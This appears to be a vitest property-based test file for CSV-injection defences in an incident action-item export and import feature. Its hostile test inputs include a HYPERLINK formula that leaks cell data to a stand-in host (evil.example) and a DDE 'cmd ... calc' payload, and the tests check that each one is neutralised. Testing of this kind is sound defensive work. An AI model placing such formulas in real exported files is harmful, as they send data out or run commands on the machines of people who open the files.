import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, exportActionsCsv, parseCsv, planStatusImport } from '../../../shared/actions';
import type { ActionItem, ImportError } from '../../../shared/domain';
import { ACTION_STATUSES, PRIORITIES } from '../../../shared/domain';
import { neutraliseCsvCell, restoreCsvCell } from '../../../shared/export/csv';
import { errorsCsv } from '../../../renderer/features/import/errorsCsv';
import { item } from '../actions/fixtures';

/**
 * Issue 11, item 2 — CSV injection. Written independently of the code under test: a cell is
 * dangerous when a spreadsheet would evaluate it, i.e. its first character after any leading
 * whitespace is = + - @ (or a full-width form), or it starts with a tab or carriage return.
 */
const DANGEROUS = /^[\s\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
const RUNS = Number(process.env.FC_RUNS ?? 200);

/** Strings built to start formulae, with and without leading whitespace. */
const hostile = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc
    .tuple(
      fc.constantFrom('', ' ', '  ', '\n', '\r\n', '\t', '\u00a0', '\ufeff', ' \n '),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', 'a', "'"),
      fc.constantFrom('HYPERLINK("https://evil.example/?leak="&B2,"x")', '1+1', "cmd|' /C calc'!A0", '', 'x'),
    )
    .map((parts) => parts.join('')),
);

const anItem = fc.record({
  id: hostile.filter((s) => s.trim() !== '' && s.length <= 128),
  incidentId: hostile.filter((s) => s !== ''),
  title: hostile,
  description: hostile,
  owner: hostile,
  priority: fc.constantFrom(...PRIORITIES),
  type: hostile,
  status: fc.constantFrom(...ACTION_STATUSES),
  statusReason: hostile,
  ticketUrl: hostile,
  causeIds: fc.array(hostile, { maxLength: 3 }),
  dueDate: fc.constant(null),
});

const items = fc
  .uniqueArray(anItem, { selector: (a) => a.id.trim(), maxLength: 6 })
  .map((rows) => rows.map((r) => item(r) as ActionItem));

function cellsOf(csv: string): string[][] {
  const parsed = parseCsv(csv, 'x.csv');
  if (!parsed.ok) throw new Error(parsed.error);
  return [parsed.table.header, ...parsed.table.records.map((r) => r.cells)];
}

describe('neutraliseCsvCell (OWASP rule)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [' =1+1', "' =1+1"],
    ['\n=HYPERLINK(1)', "'\n=HYPERLINK(1)"],
    ['\t@SUM(1)', "'\t@SUM(1)"],
    ['\rx', "'\rx"],
    ['-5', "'-5"],
    ['+1', "'+1"],
    ['＝1', "'＝1"],
    ['plain = fine', 'plain = fine'],
    ['', ''],
    ['a-b', 'a-b'],
  ])('%j → %j', (input, output) => {
    expect(neutraliseCsvCell(input)).toBe(output);
    expect(restoreCsvCell(neutraliseCsvCell(input))).toBe(input);
  });
});

describe('every CSV writer neutralises every column', () => {
  it('Jira/Linear action CSV: no cell of any column, Id included, can start a formula', () => {
    fc.assert(
      fc.property(
        items,
        fc.constantFrom('jira', 'linear') as fc.Arbitrary<'jira' | 'linear'>,
        (list, flavor) => {
          const titles = new Map(list.map((a) => [a.incidentId, a.incidentId]));
          const csv = exportActionsCsv(list, {
            flavor,
            causeTitle: (id) => id,
            incidentTitle: (id) => titles.get(id),
          });
          const rows = cellsOf(csv);
          expect(rows[0]).toEqual([...CSV_COLUMNS]);
          for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGEROUS);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it('an Id neutralised on export still matches its item on the status import', () => {
    const a = item({ id: '=HYPERLINK("https://evil.example/?leak="&B2,"x")', status: 'open' });
    const csv = exportActionsCsv([a]).replace(',To Do,', ',Done,');
    expect(cellsOf(csv)[1]![0]).toBe(`'${a.id}`);
    const plan = planStatusImport(csv, 'x.csv', [a]);
    if (!plan.ok) throw new Error(plan.error);
    expect(plan.plan.updates.map((u) => [u.id, u.to])).toEqual([[a.id, 'done']]);
  });

  it('"Download all errors (CSV)": no cell of any column can start a formula', () => {
    const anError = fc.record({ file: hostile, line: fc.integer({ min: 0, max: 1e6 }), reason: hostile });
    fc.assert(
      fc.property(fc.array(anError, { maxLength: 8 }), (errors) => {
        const rows = cellsOf(errorsCsv(errors as ImportError[]));
        expect(rows[0]).toEqual(['file', 'line', 'reason']);
        for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGEROUS);
      }),
      { numRuns: RUNS },
    );
    const one = cellsOf(errorsCsv([{ file: '=HYPERLINK(1).jsonl', line: 3, reason: 'bad' } as ImportError]));
    expect(one[1]![0]).toBe("'=HYPERLINK(1).jsonl");
  });
});
